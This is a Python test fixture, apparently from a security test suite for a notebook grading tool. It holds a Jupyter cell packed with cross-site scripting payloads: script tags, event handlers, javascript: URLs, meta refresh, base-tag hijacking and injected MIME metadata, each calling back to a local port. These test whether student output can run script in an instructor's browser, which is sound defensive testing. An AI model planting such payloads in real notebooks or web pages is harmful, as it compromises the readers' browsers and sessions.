"""Display scripts, event handlers, frames, styles and forms."""

KIND = "the instructor's browser"
DESERVES = 20
NOTE = "Stock feedback carries the script to the reader."
CELL = """
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

owned = "document.title='owned';fetch('http://127.0.0.1:@PORT@/owned')"
display(HTML(f"<script>{owned}</script><img src=x onerror=\\"{owned}\\"><body onload=\\"{owned}\\">"))
display(HTML("<style>body{display:none}</style><base href='http://127.0.0.1:@PORT@/'>"))
display(HTML("<form action='http://127.0.0.1:@PORT@/'><input autofocus onfocus=\\"" + owned + "\\"></form>"))
display(HTML("<meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/owned'>"))
display(HTML("<link rel=stylesheet href=//127.0.0.1:@PORT@/>"))
display(Javascript(owned))
display(IFrame(f"javascript:{owned}", 10, 10))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{owned}\\"><script>{owned}</script></svg>"))
display(Latex(r"$\\\\href{javascript:" + owned + "}{x}$"))
display(Markdown(f"<img src=x onerror=\\"{owned}\\"> [x](javascript:{owned})"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}, raw=True)
display({"text/html": f"<script>{owned}</script>", "text/plain": f"</pre><script>{owned}</script>"}, raw=True)
display({"image/png": "\\"><script>" + owned + "</script>"}, raw=True)
handler = {"width": f"1\\" onerror=\\"{owned}", "alt": f"\\"><script>{owned}"}
display({"image/png": "AAAA"}, metadata={"image/png": handler}, raw=True)
display({"image/svg+xml": f"<svg onload=\\"{owned}\\"/>", "application/pdf": "x", "text/x-owned": owned}, raw=True)
"""
